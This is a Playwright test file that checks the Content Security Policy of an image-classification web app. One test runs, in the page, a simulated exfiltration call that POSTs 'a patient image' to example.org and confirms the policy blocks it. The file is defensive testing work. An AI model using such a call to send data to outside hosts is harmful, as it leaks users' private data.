import { CONTENT_SECURITY_POLICY, CONTENT_SECURITY_POLICY_META } from '../scripts/vite/security-headers';
import { card, openReady, waitForAllFinished } from '@testkit/app-page';
import { dropFiles } from '@testkit/drop-files';
import { expect, test } from './support/fixtures';
import { knownGoodImages } from '@testkit/test-images';

/** Records every CSP violation the page reports, from before its first script runs. */
const RECORD_VIOLATIONS = `
  window.__violations = [];
  document.addEventListener('securitypolicyviolation', (e) =>
    window.__violations.push(e.violatedDirective + ' ' + e.blockedURI));
`;
const violations = (page: import('@playwright/test').Page) =>
  page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);

test('the page and its worker are served with the policy; tfjs runs under it on WASM', async ({ page }) => {
  await page.addInitScript(RECORD_VIOLATIONS);
  const consoleCsp: string[] = [];
  page.on('console', (m) => {
    if (/Content Security Policy/i.test(m.text())) consoleCsp.push(m.text());
  });
  const worker = page.waitForResponse(/\/assets\/analysis\.worker-[\w-]+\.js$/);
  const response = await page.goto('/?backend=wasm');
  const header = response?.headers()['content-security-policy'];
  expect(header).toBe(CONTENT_SECURITY_POLICY);
  expect(header).toContain("connect-src 'self'");
  expect(header).toContain("script-src 'self' 'wasm-unsafe-eval'");
  // The meta tag says the same, less frame-ancestors, which browsers ignore in a meta tag.
  const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(meta).toBe(CONTENT_SECURITY_POLICY_META);
  expect(header).toBe(`${meta}; frame-ancestors 'none'`);
  expect((await worker).headers()['content-security-policy']).toBe(header);
  // No inline script: every <script> has a src.
  expect(await page.locator('script:not([src])').count()).toBe(0);

  await expect(page.getByTestId('model-ready')).toBeVisible({ timeout: 120_000 });
  await expect(page.getByTestId('backend')).toHaveAttribute('data-backend', 'wasm');
  const [{ cls, file }] = knownGoodImages();
  await dropFiles(page, [file]);
  await waitForAllFinished(page, 1);
  await expect(card(page, file.name).getByTestId('cell').first()).toHaveAttribute('data-class', cls);
  expect(await violations(page)).toEqual([]);
  expect(consoleCsp).toEqual([]);

  // "How we test this" shows the policy the page really has (its meta tag).
  await page.getByRole('link', { name: 'How we test this' }).click();
  await expect(page.getByRole('heading', { name: 'How we test this' })).toBeFocused();
  await expect(page.getByTestId('served-csp')).toHaveText(meta!);
});

test('a script that tries to send something to another site is blocked by the policy', async ({ page }) => {
  await page.addInitScript(RECORD_VIOLATIONS);
  const consoleCsp: string[] = [];
  page.on('console', (m) => {
    if (/Content Security Policy/i.test(m.text())) consoleCsp.push(m.text());
  });
  await openReady(page);
  const outcome = await page.evaluate(() =>
    fetch('https://example.org', { method: 'POST', body: 'a patient image' }).then(
      () => 'sent',
      (e: Error) => `refused: ${e.name}`,
    ),
  );
  expect(outcome).toBe('refused: TypeError');
  // The page has the policy twice (header and meta tag); each reports the violation.
  await expect.poll(() => violations(page)).toContain('connect-src https://example.org/');
  expect(new Set(await violations(page))).toEqual(new Set(['connect-src https://example.org/']));
  // The console names the address and the directive that blocked it.
  expect(consoleCsp).toContainEqual(
    expect.stringMatching(
      /'https:\/\/example\.org\/' violates .*Content Security Policy directive: "connect-src 'self'"/,
    ),
  );
  for (const message of consoleCsp) expect(message).toContain('example.org');
});
